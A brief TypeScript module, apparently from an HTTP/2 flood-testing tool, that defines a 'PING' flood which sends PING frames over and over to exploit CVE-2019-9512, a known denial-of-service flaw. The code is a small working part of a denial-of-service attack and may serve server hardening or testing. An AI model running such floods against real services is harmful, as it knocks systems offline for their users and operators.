import { http2Frame } from "../../flight/http2-bytes.js";
import { type Flood, repeated } from "../flood.js";

/** Pings, each of which has to be answered (CVE-2019-9512). */
export const ping: Flood = { name: "PING", start: repeated(http2Frame(6, 0, 0, Buffer.alloc(8))) };
